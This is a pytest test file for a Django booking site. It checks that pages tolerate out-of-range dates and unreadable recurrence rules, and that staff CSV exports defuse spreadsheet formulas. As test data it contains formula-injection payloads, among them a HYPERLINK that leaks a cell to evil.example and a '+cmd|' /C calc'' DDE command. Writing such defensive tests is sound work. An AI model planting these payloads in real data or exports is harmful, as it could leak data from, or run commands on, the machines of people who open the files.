"""Pages with far-fetched query values, stored rows they cannot fully read, and CSV exports
that spreadsheets must open as data (issue 12, "Low")."""

import csv
import datetime as dt
import io
from urllib.parse import quote

import pytest
from django.test import Client

from booking import rules
from common.csv import csv_line, safe_cell
from tests.factories import BookingFactory, EventFactory, SlotFactory, UserFactory

pytestmark = pytest.mark.django_db

FAR_DAYS = [
    "9999-12-31",
    "0001-01-01",
    "1999-12-31",
    "2101-01-01",
    "10000-01-01",
    "99999999999999999999",
    "\x00",
    "2026-02-30",
]
FAR_MONTHS = ["9999-12", "0001-01", "10000-01", "2026-13", "2026-00", "2026-1a", "٢٠٢٦-٠١", "-1-1"]
ODD_IDS = ["²", "١", "99999999999999999999", "-1", "\x00", "1e3"]

PAGES: list[tuple[str, str, list[str], str | None]] = [
    # (path, parameter, values, who): every one a page, never a 500
    ("/", "day", FAR_DAYS, None),
    ("/", "q", ["\x00", "a\x00b", "\n", "x" * 5000], None),
    ("/", "street", ["\x00", "\u202e"], None),
    ("/", "sport", ["\x00"], None),
    ("/venues/{venue}/", "day", FAR_DAYS, None),
    ("/venues/{venue}/", "day", FAR_DAYS, "resident"),
    ("/events/", "month", FAR_MONTHS, None),
    ("/events/", "venue", ODD_IDS, None),
    ("/events/", "category", ["\x00"], None),
    ("/staff/venues/{venue}/", "day", FAR_DAYS, "staff"),
    ("/staff/venues/{venue}/bookings.csv", "from", FAR_DAYS, "staff"),
    ("/staff/venues/{venue}/bookings.csv", "to", FAR_DAYS, "staff"),
    ("/staff/venues/{venue}/usage.csv", "from", FAR_DAYS, "staff"),
    ("/staff/venues/{venue}/usage.csv", "to", FAR_DAYS, "staff"),
]


@pytest.mark.parametrize(
    ("template", "param", "values", "who"),
    PAGES,
    ids=[f"{row[0]}?{row[1]}-{row[3]}" for row in PAGES],
)
def test_far_fetched_query_values_give_the_page_with_its_default(  # type: ignore[no-untyped-def]
    venue, resident, staff_user, template, param, values, who
):
    client = Client(raise_request_exception=False)
    if who is not None:
        client.force_login({"resident": resident, "staff": staff_user}[who])
    path = template.format(venue=venue.pk)
    for value in values:
        response = client.get(f"{path}?{param}={quote(value)}")
        assert response.status_code == 200, (value, response.status_code)


def test_month_view_of_a_month_out_of_range_shows_this_month(client):  # type: ignore[no-untyped-def]
    html = client.get("/events/", {"month": "9999-12"}).content.decode()
    today = rules.local_date(dt.datetime.now(dt.UTC))
    assert f"{today.year:04d}-{today.month:02d}" in html
    assert "9999-11" not in html and "10000-01" not in html  # no links around year 9999


def test_csv_date_ranges_at_the_ends_of_the_calendar_are_clamped(client, staff_user, venue):  # type: ignore[no-untyped-def]
    client.force_login(staff_user)
    for first, last in [("9999-12-31", "9999-12-31"), ("0001-01-01", "9999-12-31")]:
        response = client.get(f"/staff/venues/{venue.pk}/bookings.csv", {"from": first, "to": last})
        assert response.status_code == 200
        assert "9999" not in response["Content-Disposition"]


@pytest.mark.parametrize("stored", ["FREQ=MONTHLY;BYDAY=99MO", "FREQ=DAILY;BYEASTER=1;X=", "?"])
def test_a_stored_rule_that_cannot_be_read_does_not_take_the_event_pages_down(client, stored):  # type: ignore[no-untyped-def]
    good = EventFactory(title_zh="好活动")
    bad = EventFactory(title_zh="坏规则", rrule=stored, last_starts_at=None, last_ends_at=None)

    for path in ("/events/", "/events/?view=list", f"/events/{bad.pk}/", f"/events/{good.pk}/"):
        response = client.get(path)
        assert response.status_code == 200, path
    html = client.get("/events/", {"view": "list"}).content.decode()
    assert "好活动" in html and "坏规则" in html  # the bad one as a one-off


# --- CSV exports: cells that spreadsheets would run as formulas ---------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example","click")',
            '\'=HYPERLINK("http://evil.example","click")',
        ),
        ("+SUM(1,1)", "'+SUM(1,1)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("张三", "张三"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),  # numbers stay numbers
        (None, None),
    ],
)
def test_safe_cell_quotes_text_a_spreadsheet_reads_as_a_formula(value, written):  # type: ignore[no-untyped-def]
    assert safe_cell(value) == written


def test_csv_line_writes_rfc_4180_with_defused_cells():  # type: ignore[no-untyped-def]
    line = csv_line(["=1+1", 'say "hi"', 3])
    assert line == '\'=1+1,"say ""hi""",3\r\n'


def test_staff_csv_exports_defuse_a_resident_named_like_a_formula(client, staff_user, court):  # type: ignore[no-untyped-def]
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"点击 Click")'
    resident = UserFactory(username=evil)
    court.name_zh = "+cmd|' /C calc'!A0"
    court.save()
    slot = SlotFactory(resource=court)
    BookingFactory(slot=slot, resident=resident)
    client.force_login(staff_user)
    day = slot.starts_at.astimezone(rules.local_tz()).date().isoformat()

    bookings = read_csv(client, f"/staff/venues/{court.venue_id}/bookings.csv", day)
    usage = read_csv(client, f"/staff/venues/{court.venue_id}/usage.csv", day)

    row = dict(zip(bookings[0], bookings[1], strict=True))
    assert row["resident"] == "'" + evil
    assert row["resource"] == "'+cmd|' /C calc'!A0"
    assert usage[1][1] == "'+cmd|' /C calc'!A0"
    for table in (bookings, usage):
        for cells in table:
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def read_csv(client: Client, url: str, day: str) -> list[list[str]]:
    response = client.get(url, {"from": day, "to": day})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    return list(csv.reader(io.StringIO(text)))
